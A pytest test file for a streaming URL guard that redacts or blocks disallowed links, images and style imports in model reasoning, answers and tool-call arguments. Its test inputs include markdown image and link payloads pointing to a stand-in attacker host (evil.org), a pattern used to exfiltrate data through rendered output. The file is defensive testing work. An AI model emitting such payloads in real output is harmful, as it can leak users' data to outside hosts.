@pytest.mark.parametrize(
    ("text", "want"),
    [
        (f"url({PAGE})", "url(#)"),  # what stands in a style is loaded
        (f'@import "{PAGE}"', '@import "#"'),
        ("url(https://img.example.com/i)", None),
        (f'image-set("https://img.example.com/a" 1x, "{PAGE}" 2x)', "image-set(#)"),
        ("www. x", None),
        ("www.", None),
        ("(www.) x", None),
        ("so www.-x", "so [link]"),
        ("www.example.org x", "[link] x"),
        (f"<{EVIL} x", "<[link] x"),
        (f"<{PAGE} x", None),
        (f"\\<{PAGE}", None),
    ],
)
def test_where_a_url_stands_says_what_may_become_of_it(text: str, want: str | None) -> None:
    """The same host may be linked to and not loaded from."""
    assert everywhere(text) == (text if want is None else want)


@pytest.mark.parametrize(
    ("text", "want"),
    [
        (f'<img srcset="https://img.example.com/{"x" * 1900}"> y', None),
        (f'<img srcset="https://img.example.com/{"x" * 2100}"> y', '<img srcset="#"> y'),
        (f'<img srcset="https://img.example.com/{"x" * 2100}, {EVIL}"> y', '<img srcset="#"> y'),
        ("[t](<ht" + "\t" * 1900 + "tps://example.com/>) y", None),
        ("[t](<ht" + "\t" * 2100 + "tps://example.com/>) y", "[t](<#>) y"),
        (f"<p style='color:red;{' ' * 1900}'> y", None),
        (f"<p style='color:red;{' ' * 2100}'> y", "<p style='#'> y"),
    ],
)
def test_what_cannot_be_judged_in_time_is_refused(text: str, want: str | None) -> None:
    """2,000 characters from its mark on, by default."""
    assert GUARD.apply(text) == pieces(GUARD, [*text]) == (text if want is None else want)


@pytest.mark.parametrize(
    ("host", "url", "is_allowed"),
    [
        ("example.com", "https://example.com/", True),
        ("EXAMPLE.com", "https://example.com/", True),
        ("example.com", "https://a.example.com/", False),
        ("*.example.com", "https://a.example.com/", True),
        ("*.example.com", "https://example.com/", False),
        ("example.com", "https://example.com:8443/", False),
        ("example.com:8443", "https://example.com:8443/", True),
        ("example.com:8443", "https://example.com/", False),
        ("example.com:65535", "https://example.com:65535/", True),
        ("b\u00fccher.example", "https://xn--bcher-kva.example/", True),
        ("bu\u0308cher.example", "https://b\u00fccher.example/", True),
        ("*.b\u00fccher.example", "https://a.xn--bcher-kva.example/", True),
    ],
)
def test_a_host_is_that_host_with_its_port_or_all_below_it(host: str, url: str, is_allowed: bool) -> None:
    """In Unicode or in its ASCII form."""
    stage, text = sf.Links([host]), f"[x]({url})"
    assert stage.apply(text) == pieces(stage, [*text]) == (text if is_allowed else "[x](#)")


@pytest.mark.parametrize(
    "host",
    [
        *("example.com:65536", "example.com.", "example.com:", "example.com:\u0663", "exam ple", "*.", "."),
        *("stra\u00dfe.example", "\ufb01sh.example", "a\u200db.example"),
    ],
)
def test_what_is_no_host_or_two_is_refused(host: str) -> None:
    """Readers that map it otherwise would go elsewhere."""
    with pytest.raises(ValueError, match=r"host|port"):
        sf.Links([host])


@pytest.mark.parametrize("max_hold", [400, 2000])
@pytest.mark.parametrize("text", ['say "{}x', "say '{}//evil.org", '"/{}/evil.org', '{{"a": "{}"}}', '"{}'])
@pytest.mark.parametrize("blank", [" ", "\n", " \n", "\t", "\x00"])
def test_a_string_that_begins_with_blanks_is_read_to_its_end(text: str, blank: str, max_hold: int) -> None:
    """However many they are: what is not decided by then is refused, once."""
    stage = sf.Links(["example.com"], max_hold=max_hold)
    for count in (max_hold // len(blank) + n for n in (-3, -2, -1, 0, 1, 50)):
        given = text.format(blank * count)
        out = stage.apply(given)
        assert pieces(stage, [given[at : at + 97] for at in range(0, len(given), 97)]) == out
        assert out.count("#") <= 1 and not leaks(out)
        if "evil" not in given and blank.isspace():  # other controls are swallowed with what is refused
            assert out.replace("#", "") == given


@pytest.mark.parametrize(
    "text",
    [
        '[x](https://example.com "a title") (b) [1] (see below), [2] (fig. 1)',
        "[a](https://example.com ) me@example.org [b] (me) [c]\n\n(//example.org",
        "see [https://example.com] and (https://example.com), https://example.com\xa0» or https://example.com\u3002",
        "f[i] (x) a[b][c]  (d) x::y<z> std::map<a::b, c> <note: this>",
        "[a] : b [c]\n: d",
        "[x] (https://example.com/a) ![y] (https://img.example.com/i) ![z] (relative.png)",
    ],
)
def test_what_stands_behind_a_bracket_or_a_blank_is_mostly_text(text: str) -> None:
    """Also where no relative URLs are allowed: text in parentheses looks like one."""
    assert everywhere(text) == text
    apart = sf.Links(["example.com"], images=["img.example.com"], relative=False)
    assert pieces(apart, [*text]) == text


def test_what_is_held_is_bounded() -> None:
    """A URL that cannot be judged within `max_hold` is refused, at the same place for all cuts."""
    stage = sf.Links(max_hold=400)
    for text in (
        "[a](" + " " * 900 + "b)",
        "<p style='" + "a" * 900 + "'>",
        "<ab:" + "c" * 900 + ">",
        "url(" + " " * 900 + ")",
        "<a href" + " " * 900 + "=x>",
        "&#" + "0" * 900,
    ):
        machine = stage.machine()
        left = ""
        for character in text:
            left += "".join(map(str, machine.feed(character)))
            assert machine.held <= 401
        assert left + "".join(map(str, machine.finish())) == stage.apply(text)


def test_findings_name_the_rule_and_the_place_and_never_the_url() -> None:
    """`link` and `image`, with the characters that were taken out; one that the stream cut off is reported too."""
    seen: list[sf.Finding] = []
    context = sf.Context(observe=[seen.append])
    text = f"a ![i]({EVIL}) b {EVIL}, c"
    GUARD.apply(text, context=context)
    assert [(finding.rule, finding.action) for finding in seen] == [("image", "redact"), ("link", "redact")]
    assert all(text[finding.start : finding.end] == EVIL for finding in seen)
    assert "evil" not in repr(seen)


@pytest.mark.parametrize("text", [EVIL, f"[a]({EVIL}", f"<a href={EVIL}", f"so {EVIL}.", f"url({EVIL}", f"![i]({EVIL})!"])
def test_the_findings_of_every_cut_are_those_of_the_whole(text: str) -> None:
    """Also where the stream ends in a URL."""

    def found(pieces: Iterable[str]) -> list[sf.Finding]:
        stream = GUARD.iter(pieces)
        assert "evil" not in "".join(stream)
        return stream.report.findings

    [want] = found([text])
    assert "evil" in text[want.start : want.end]
    for at in range(len(text) + 1):
        assert found([text[:at], text[at:]]) == [want]
    assert found([*text]) == [want]


def test_it_can_end_the_stream_instead() -> None:
    """`raise` and `stop` deliver what came before the URL."""
    got: list[str] = []
    with pytest.raises(sf.Blocked, match="rule image matched at character 7 of the answer"):
        got.extend(sf.Links(action="raise").iter(["a ![i]", "(//evil.org/x) b"]))
    assert "".join(got) == "a ![i]("
    assert sf.Links(action="stop").apply(f"a {EVIL} b") == "a "


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ({"allow": ["https://example.com"]}, "'https://example.com' is no host: write 'example.com'"),
        ({"allow": ["example.com/x"]}, "is no host"),
        ({"images": ["*"]}, "is no host"),
        ({"allow": "ok.com"}, r"one string is no list: write Links(\['ok.com'\]"),
        ({"schemes": "https"}, r"write Links(schemes=\['https'\]"),
        ({"allow": ["ok.com:99999"]}, "'ok.com:99999': a port is at most 65535"),
        ({"allow": ["straße.example"]}, "more than one reading"),
        ({"schemes": ["javascript"]}, "'javascript' can never be allowed"),
        ({"schemes": ["HTTPS"]}, "schemes"),
        ({"to": "<x>"}, "to: only letters"),
        ({"to": "](x"}, "to: only letters"),
        ({"action": "drop"}, "action"),
        ({"max_hold": 10}, "max_hold"),
    ],
)
def test_bad_arguments_are_refused_when_it_is_built(arguments: dict[str, Any], message: str) -> None:
    """With what would be right."""
    with pytest.raises(ValueError, match=message.replace("(", r"\(")):
        sf.Links(**arguments)


def test_it_is_a_guard_of_every_channel() -> None:
    """Reasoning, refusals and the strings in the arguments of tool calls; each with its own state."""
    one, two = sf.Channel("reasoning"), sf.Channel("answer", (0, 1))
    items = [sf.TextDelta("[a](", one), sf.TextDelta("[b", two), sf.TextDelta("//evil.org/x) c", one), sf.TextDelta("](x) d", two)]
    out = [item for item in GUARD.iter(items) if isinstance(item, sf.TextDelta)]
    assert "".join(item.text for item in out if item.channel == one) == "[a](#) c"
    assert "".join(item.text for item in out if item.channel == two) == "[b](x) d"
    call = sf.TextDelta('{"url": "https:\\u002f/evil.org/x"}', sf.Channel("tool_arguments", (0, 0, 0)))
    assert "".join(item.text for item in GUARD.iter([call]) if isinstance(item, sf.TextDelta)) == '{"url": "[link]"}'


def test_recorded_answers_without_urls_are_unchanged() -> None:
    """All recorded text of one API: what has no `://`, no `www.` and no tag with a target is not touched."""
    if not SHARED.exists():
        pytest.skip("the recordings are not beside the project")
    changed = []
    for entry in shared("openai-chat"):
        try:
            read = chunks(body(entry))
        except ValueError:
            continue
        parts = [
            str((choice.get("delta") or {}).get("content") or "")
            for chunk in read
            for choice in chunk.get("choices") or ()
            if choice.get("index") == 0
        ]
        text = "".join(parts)
        out = pieces(GUARD, parts)
        assert out == GUARD.apply(text)
        if out != text and "://" not in text and "www." not in text:
            changed.append(entry["file"])
    assert not changed
